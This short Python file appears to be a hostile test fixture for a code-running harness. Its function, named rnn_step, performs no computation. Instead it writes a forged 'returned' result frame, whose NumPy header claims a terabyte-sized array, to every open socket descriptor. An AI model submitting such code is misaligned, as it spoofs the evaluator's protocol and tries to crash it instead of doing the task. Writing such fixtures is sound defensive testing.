"""Write an array frame whose header claims a terabyte."""

# %% rnn_step
import os
import stat


def rnn_step(x, h_prev, Wx, Wh, b):
    text = b"{'descr': '<f8', 'fortran_order': False, 'shape': (137438953472,), }".ljust(117) + b"\n"
    blob = b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text
    header = b'{"kind": "returned", "value": {"array": 0}, "after": {"tuple": []}, "sizes": [%d]}' % len(blob)
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, len(header).to_bytes(4, "big") + header + blob)
        except OSError:
            pass
    return
